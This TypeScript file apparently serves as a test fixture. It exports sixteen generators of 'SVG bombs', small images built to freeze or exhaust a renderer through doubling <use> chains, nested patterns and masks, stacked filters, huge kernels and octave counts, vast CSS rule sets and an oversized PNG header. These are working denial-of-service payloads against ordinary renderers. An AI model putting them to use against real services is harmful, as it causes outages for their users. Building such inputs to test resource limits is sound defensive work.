const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">${inside}</svg>`;
const repeat = (count: number, make: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => make(n)).join('');
const rect = (attributes: string) => `<rect width="100" height="100" ${attributes}/>`;
const filter = (inside: string) => svg(`<filter id="f">${inside}</filter>${rect('filter="url(#f)"')}`);

/** Small files that keep a renderer busy for hours or fill its memory, each by another way. */
export const svgBombs = new Map<string, () => string>([
  [
    'uses that double',
    () =>
      svg(
        `<rect id="g0" width="1" height="1"/>${repeat(30, (n) => `<g id="g${n + 1}"><use href="#g${n}"/><use href="#g${n}"/></g>`)}<use href="#g30"/>`,
      ),
  ],
  [
    'patterns in patterns',
    () =>
      svg(
        `${repeat(60, (n) => `<pattern id="p${n}" width="0.1" height="0.1" patternUnits="userSpaceOnUse"><rect width="9" height="9" fill="url(#p${n + 1})"/></pattern>`)}${rect('fill="url(#p0)"')}`,
      ),
  ],
  [
    'masks in masks',
    () =>
      svg(
        `${repeat(300, (n) => `<mask id="m${n}" mask="url(#m${n + 1})"><rect width="100" height="100" fill="#fff" mask="url(#m${n + 1})"/></mask>`)}${rect('mask="url(#m0)"')}`,
      ),
  ],
  ['a thousand blurs', () => filter(repeat(1000, () => '<feGaussianBlur stdDeviation="40"/>'))],
  ['noise of many octaves', () => filter('<feTurbulence baseFrequency="0.9" numOctaves="2000000000"/>')],
  [
    'erosion by the whole page',
    () => filter(repeat(50, () => '<feMorphology operator="dilate" radius="100"/>')),
  ],
  [
    'a kernel as large as the page',
    () => filter(`<feConvolveMatrix order="200" kernelMatrix="${'1 '.repeat(40_000)}"/>`),
  ],
  [
    'lights',
    () =>
      filter(
        repeat(
          300,
          () => '<feSpecularLighting surfaceScale="9"><fePointLight x="1" y="1" z="1"/></feSpecularLighting>',
        ),
      ),
  ],
  ['dashes without number', () => svg('<path d="M0 0H1e9" stroke="#000" stroke-dasharray="0.00001"/>')],
  [
    'markers on every corner',
    () =>
      svg(
        `<marker id="m">${repeat(500, () => '<path d="M0 0h1v1"/>')}</marker><path marker-mid="url(#m)" d="M0 0${'l1 1'.repeat(100_000)}"/>`,
      ),
  ],
  [
    'rules for every element',
    () =>
      svg(
        `<style>${repeat(20_000, (n) => `g g .a${n} > *{fill:red}`)}</style>${repeat(20_000, (n) => `<g class="a${n}"/>`)}`,
      ),
  ],
  [
    'a picture of nine thousand million pixels',
    () => svg(`<image width="100" height="100" href="data:image/png;base64,${hugePng()}"/>`),
  ],
  ['text without end', () => svg(`<text font-size="1">${'字'.repeat(1_000_000)}</text>`)],
  ['layers without end', () => svg(`${'<g opacity="0.9">'.repeat(490)}${rect('')}${'</g>'.repeat(490)}`)],
  [
    'a filter on every element',
    () =>
      svg(
        `<filter id="f"><feGaussianBlur stdDeviation="1"/></filter>${repeat(3000, () => rect('filter="url(#f)"'))}`,
      ),
  ],
  [
    'coordinates without end',
    () =>
      svg(
        `<g transform="scale(1e30)">${repeat(100, () => '<path stroke-width="1e-30" stroke="#000" d="M-1e30 -1e30C1e30 1 1 1e30 1e30 1e30"/>')}</g>`,
      ),
  ],
]);

/** The head of a PNG of 95,000 × 95,000 pixels; its data is missing. */
function hugePng(): string {
  const head = Buffer.from(
    '89504e470d0a1a0a0000000d49484452000173180001731808060000000000000000000049444154',
    'hex',
  );
  return head.toString('base64');
}
